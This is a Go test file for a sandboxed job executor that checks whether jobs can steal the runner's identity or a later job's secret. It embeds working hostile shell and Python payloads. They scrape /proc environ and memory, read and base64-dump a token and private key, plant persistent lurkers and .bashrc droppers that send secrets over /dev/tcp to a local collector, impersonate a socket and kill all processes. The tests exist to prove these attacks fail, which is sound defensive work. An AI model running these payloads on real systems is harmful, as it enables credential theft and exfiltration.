package local_test

import (
	"bytes"
	"encoding/base64"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"cemli-executor/internal/evidence"
	"cemli-executor/internal/local"
	"cemli-executor/internal/localoci"
	"cemli-executor/internal/localoci/localtest"
	"cemli-executor/internal/store"
	"cemli-executor/internal/testkit"
)

// onBasic is a local OCI whose runner is on a kernel without Landlock.
func onBasic(t *testing.T, change func(*local.Options)) (c *cloud, log *testkit.Buffer) {
	t.Helper()
	log = &testkit.Buffer{}
	c = start(t, func(o *local.Options) {
		o.Runner = &local.Runner{Log: log, Under: testkit.UnderKernel(testkit.NoLandlock)}
		if change != nil {
			change(o)
		}
	})
	return c, log
}

// itsFolder finds the folder of the function's instance.
const itsFolder = `while read -r _ _ _ _ m _; do [ -d "$m/iofs" ] && INSTANCE=$m; done </proc/self/mountinfo
`

// steals prints what scripts find of the function's identity, wherever it may be.
const steals = itsFolder + `
for f in /proc/[0-9]*/environ; do tr '\0' '\n' <$f; done 2>/dev/null | grep -a -E 'RESOURCE_PRINCIPAL|CEMLI_RUNNER|BUCKET|POLICY|TOPIC' | sort -u
env | grep -E 'RESOURCE_PRINCIPAL' && echo "in the environment"
cat /proc/[0-9]*/mem >/dev/null 2>&1 && echo "memory was read"
echo "token $(base64 -w0 "$INSTANCE/credentials/rpst")"
echo "key $(base64 -w0 "$INSTANCE/credentials/private.pem")"
`

// At basic a script reads the runner's token and key, as on Oracle's kernels. Every call that the executor, or a
// person, may make with theirs is refused: the attacks on the identity fail for want of a grant.
func TestAStolenRunnerIsGrantedNothing(t *testing.T) {
	c, log := onBasic(t, nil)
	r := c.tries("steals", steals)
	if r.Status != evidence.StatusSuccess || r.Apart == nil || r.Apart.Level != "basic" || r.Apart.ID != localoci.RunnerID {
		t.Fatalf("status %s, %s, %+v; the runner's log:\n%s", r.Status, r.Message, r.Apart, log)
	}
	found := string(c.read(c.results(), evidence.Dir(r.RunID)+r.Steps[0].Log))
	for _, secret := range []string{"in the environment", "memory was read", "CEMLI_POLICY", "CEMLI_STATE", "CEMLI_RUNNER="} {
		if strings.Contains(found, secret) {
			t.Errorf("a script finds %q:\n%s", secret, found)
		}
	}
	stolen := localtest.With(t, localoci.Session{Token: decoded(t, found, "token"), PrivateKey: []byte(decoded(t, found, "key"))})
	if resp, _ := stolen.Send(t, "GET", c.Endpoint()+"/n", "", nil); resp.StatusCode != 200 {
		t.Fatalf("what was stolen is no identity: %d", resp.StatusCode)
	}
	if _, err := c.Server().PutSecret("erp-db", []byte("tiger-s3cr3t")); err != nil {
		t.Fatal(err)
	}
	b := c.Buckets()
	buckets := []string{b.Packages, b.Results, b.State, b.Policies, b.Jobs}
	for _, bucket := range buckets {
		if _, err := c.Person().Bucket(bucket).Put(t.Context(), "there", strings.NewReader("x"), 1, store.PutOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	for _, a := range localtest.Attempts(buckets...) {
		if resp, doc := stolen.Send(t, a.Method, c.Endpoint()+a.Path, a.Body, nil); resp.StatusCode != 404 {
			t.Errorf("%s %s: %d %v", a.Method, a.Path, resp.StatusCode, doc)
		}
	}
}

// decoded is what a line of the text has after a word.
func decoded(t *testing.T, text, word string) string {
	t.Helper()
	_, after, ok := strings.Cut("\n"+text, "\n"+word+" ")
	line, _, _ := strings.Cut(after, "\n")
	out, err := base64.StdEncoding.DecodeString(line)
	if !ok || err != nil || len(out) == 0 {
		t.Fatalf("%s: %v\n%s", word, err, text)
	}
	return string(out)
}

// collector receives what attackers send.
type collector struct {
	net.Listener
	mu   sync.Mutex
	came bytes.Buffer
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	c := &collector{Listener: l}
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				part := make([]byte, 4096)
				for {
					n, err := conn.Read(part)
					c.mu.Lock()
					c.came.Write(part[:n])
					c.mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return c
}

func (c *collector) text() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.came.String()
}

// lurks is a process that waits for the next job's secret, in the environments and command lines of others.
const lurks = `lurk() { trap '' TERM HUP INT; while :; do for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' <$f; done 2>/dev/null |
  grep -a 'tiger-[s]' >/tmp/lurk.$$ && cat /tmp/lurk.$$ >/dev/tcp/$COLLECTOR; sleep 0.05; done; }
echo lurking >/dev/tcp/$COLLECTOR
`

// impersonates listens where the function does, and passes on what it is called with.
const impersonates = `import os, socket, sys
path, (host, port) = sys.argv[1], sys.argv[2].split(":")
os.unlink(path)
s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 0o777); s.listen(5)
if os.fork(): sys.exit(0)
os.setsid()
while True:
    conn, _ = s.accept()
    out = socket.create_connection((host, int(port)))
    out.sendall(conn.recv(1 << 20))
`

// Whatever a job does to the container that it is in, on a kernel without Landlock: the next job's secret reaches
// nobody, and that job finds nothing of it. The control has a lurker beside the job whose secret it is.
func TestTheNextJobsSecretReachesNobody(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("NOT TESTED: needs root, to make a container")
	}
	const socket = `cd "$INSTANCE/iofs"; for s in *; do case $s in lsnr.sock) ;; *) `
	for _, a := range []struct {
		name, script string
		interrupted  bool // it kills the runner
		control      bool
	}{
		{name: "survivors", script: lurks + `export -f lurk; (setsid bash -c lurk &); nohup bash -c lurk >/dev/null 2>&1 &
bash -c lurk & disown; env COLLECTOR=$COLLECTOR setsid setsid bash -c "$(declare -f lurk); cd /; lurk" </dev/null >/dev/null 2>&1 & sleep 0.3`},
		{name: "files", script: `for d in /tmp /dev/shm "$HOME" "$INSTANCE/iofs" "$INSTANCE/tmp"; do
  echo 'env >/dev/tcp/'$COLLECTOR >$d/left; cp $d/left $d/.bashrc; cp $d/left $d/.profile; mkdir -p $d/left-folder/a; chmod 0 $d/left-folder; ln -s /etc $d/left-link
done 2>/dev/null; true`},
		{name: "the socket is removed", script: socket + `rm $s;; esac; done`},
		{name: "the socket is replaced", script: socket + `rm $s; mkfifo $s; chmod 666 $s;; esac; done`},
		{name: "the link is replaced", script: `ln -sfn /tmp/elsewhere "$INSTANCE/iofs/lsnr.sock"`},
		{name: "the socket is impersonated", script: socket + `python3 -c '` + impersonates + `' "$PWD/$s" $COLLECTOR;; esac; done`},
		{name: "signals", script: `kill -STOP -1; kill -9 -1; for p in /proc/[0-9]*; do kill -9 ${p##*/}; done 2>/dev/null; sleep 5`, interrupted: true},
		{name: "init", script: attackInit},
		{name: "control", control: true, script: ""},
	} {
		t.Run(a.name, func(t *testing.T) {
			if _, err := exec.LookPath("python3"); err != nil && strings.Contains(a.script, "python3") {
				t.Skip("NOT TESTED: needs python3")
			}
			collector := newCollector(t)
			c, log := onBasic(t, func(o *local.Options) {
				o.Timeout, o.Settings = 20*time.Second, map[string]string{"CEMLI_RESERVE": "3s"}
			})
			if _, err := c.Server().PutSecret("erp-db", []byte("tiger-s3cr3t")); err != nil {
				t.Fatal(err)
			}
			before := "COLLECTOR=" + strings.Replace(collector.Addr().String(), ":", "/", 1) + "\nexport COLLECTOR\n" + itsFolder
			if strings.Contains(a.script, "python3") {
				before = "COLLECTOR=" + collector.Addr().String() + "\n" + itsFolder
			}
			if a.control {
				before += lurks + "lurk &\n"
			} else {
				r := c.tries("attacker", before+a.script)
				if r.Apart == nil || (r.Status == evidence.StatusInterrupted) != a.interrupted {
					t.Errorf("the attacker: status %s, %s, %+v; the runner's log:\n%s", r.Status, r.Message, r.Execution, log)
				}
				before = ""
			}
			c.put("victim.zip", testkit.Zip(t, map[string]string{
				"manifest.json": `{"name":"victim","version":"1.0.0","type":"extension","secrets":{"DB":{"vault_secret":"erp-db"}}}`,
				"steps/run.sh": before + `[ "$DB" = tiger-s3cr3t ] || exit 9; sleep 1
ls -A /tmp /dev/shm "$HOME" | grep -E 'left|bashrc|profile|lurk' && exit 8; echo fine`,
			}))
			r := c.result(c.answer())
			if a.control {
				if !strings.Contains(collector.text(), "DB=tiger-s3cr3t") {
					t.Errorf("the control finds nothing: %q; status %s, %+v", collector.text(), r.Status, r.Execution)
				}
				return
			}
			if r.Status != evidence.StatusSuccess || r.Execution.Stdout != "fine\n" {
				t.Errorf("the next job: status %s, %s, %+v; the runner's log:\n%s", r.Status, r.Message, r.Execution, log)
			}
			if got := collector.text(); strings.Contains(got, "tiger") || strings.Contains(got, "mailbox") {
				t.Errorf("the secret has reached somebody: %q; the runner's log:\n%s", got, log)
			}
			if strings.Contains(log.String()+c.log.String(), "tiger") {
				t.Error("the secret is in a log")
			}
		})
	}
}
